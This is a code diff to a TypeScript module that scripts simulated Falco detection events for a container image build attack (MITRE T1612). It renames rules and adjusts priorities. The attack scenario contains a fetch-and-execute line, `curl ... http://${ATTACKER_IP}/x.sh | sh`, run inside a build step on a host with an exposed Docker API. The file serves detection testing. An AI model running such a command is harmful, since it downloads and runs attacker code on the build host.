@@ -68,9 +68,10 @@ export function toFalcoJson(ev: ScriptEvent, startNs: bigint): Record<string, un
     .map(([k, v]) => `${k}=${v ?? '<NA>'}`)
     .join(' ');
   const clock = formatTimeNs(timeNs).slice(11, 29);
+  // Falco's text line: time, priority, then the rule's output (its message and key=value pairs).
   return {
     hostname: ev.hostname,
-    output: `${clock}: ${ev.priority} ${ev.rule} | ${pairs}`,
+    output: `${clock}: ${ev.priority} T1612 ${ev.rule.slice('T1612 '.length).toLowerCase()} (${pairs})`,
     output_fields: { 'evt.time': timeNs.toString(), ...fields },
     priority: ev.priority,
     rule: ev.rule,
@@ -107,8 +108,8 @@ export function demoScript(): ScriptEvent[] {
     // Baseline on the CI host: a CI container fetches Alpine packages (the IP becomes known).
     {
       atMs: 0,
-      rule: 'T1612 Outbound connection from container',
-      priority: 'Notice',
+      rule: 'T1612 Container Outbound Connection',
+      priority: 'Informational',
       hostname: BENIGN_HOST,
       tags: EGRESS_TAGS,
       proc: { pid: 20111, name: 'apk', exepath: '/sbin/apk', cmdline: 'apk add --no-cache git', ancestors: [['sh', 20102, 'sh -c apk add --no-cache git'], ['containerd-shim', 20050], init], container: ciRunner },
@@ -118,7 +119,7 @@ export function demoScript(): ScriptEvent[] {
     // (allow-listed domain); the RUN step installs packages from the known Alpine CDN.
     {
       atMs: 300,
-      rule: 'T1612 Image build command',
+      rule: 'T1612 Image Build Command Executed',
       priority: 'Notice',
       hostname: BENIGN_HOST,
       tags: BUILD_TAGS,
@@ -126,7 +127,7 @@ export function demoScript(): ScriptEvent[] {
     },
     {
       atMs: 400,
-      rule: 'T1612 Outbound connection by image builder',
+      rule: 'T1612 Builder Daemon Outbound Connection',
       priority: 'Notice',
       hostname: BENIGN_HOST,
       tags: EGRESS_TAGS,
@@ -135,8 +136,8 @@ export function demoScript(): ScriptEvent[] {
     },
     {
       atMs: 600,
-      rule: 'T1612 BuildKit build step started',
-      priority: 'Notice',
+      rule: 'T1612 Builder Runtime Started',
+      priority: 'Informational',
       hostname: BENIGN_HOST,
       tags: BUILD_TAGS,
       proc: {
@@ -149,8 +150,8 @@ export function demoScript(): ScriptEvent[] {
     },
     {
       atMs: 800,
-      rule: 'T1612 Outbound connection from build step',
-      priority: 'Warning',
+      rule: 'T1612 Build Step Outbound Connection',
+      priority: 'Informational',
       hostname: BENIGN_HOST,
       tags: EGRESS_TAGS,
       proc: { pid: 21140, name: 'apk', exepath: '/sbin/apk', cmdline: 'apk add --no-cache nodejs npm', ancestors: [['sh', 21120, '/bin/sh -c apk add --no-cache nodejs npm'], ['runc', 21100], dockerd, init], cgroups: `cpuset=${benignStep} cpu=${benignStep} memory=${benignStep}` },
@@ -159,7 +160,7 @@ export function demoScript(): ScriptEvent[] {
     // The attack on node-7: a client on the internet reaches the exposed Docker API...
     {
       atMs: 1000,
-      rule: 'T1612 Docker API accepted remote connection',
+      rule: 'T1612 Remote Docker API Connection',
       priority: 'Warning',
       hostname: ATTACK_HOST,
       tags: BUILD_TAGS,
@@ -169,7 +170,7 @@ export function demoScript(): ScriptEvent[] {
     // ...POST /build: dockerd pulls a clean alpine base (allow-listed registry)...
     {
       atMs: 1200,
-      rule: 'T1612 Outbound connection by image builder',
+      rule: 'T1612 Builder Daemon Outbound Connection',
       priority: 'Notice',
       hostname: ATTACK_HOST,
       tags: EGRESS_TAGS,
@@ -179,8 +180,8 @@ export function demoScript(): ScriptEvent[] {
     // ...BuildKit runs the RUN step...
     {
       atMs: 1400,
-      rule: 'T1612 BuildKit build step started',
-      priority: 'Notice',
+      rule: 'T1612 Builder Runtime Started',
+      priority: 'Informational',
       hostname: ATTACK_HOST,
       tags: BUILD_TAGS,
       proc: {
@@ -194,8 +195,8 @@ export function demoScript(): ScriptEvent[] {
     // ...and the RUN step downloads the payload from the attacker's server.
     {
       atMs: 1600,
-      rule: 'T1612 Outbound connection from build step',
-      priority: 'Warning',
+      rule: 'T1612 Build Step Outbound Connection',
+      priority: 'Informational',
       hostname: ATTACK_HOST,
       tags: EGRESS_TAGS,
       proc: { pid: 30240, name: 'curl', exepath: '/usr/bin/curl', cmdline: `curl -fsSL http://${ATTACKER_IP}/x.sh`, ancestors: [['sh', 30220, `/bin/sh -c curl -fsSL http://${ATTACKER_IP}/x.sh | sh`], ['runc', 30200], dockerdRemote, init], cgroups: `cpuset=${attackStep} cpu=${attackStep} memory=${attackStep}` },
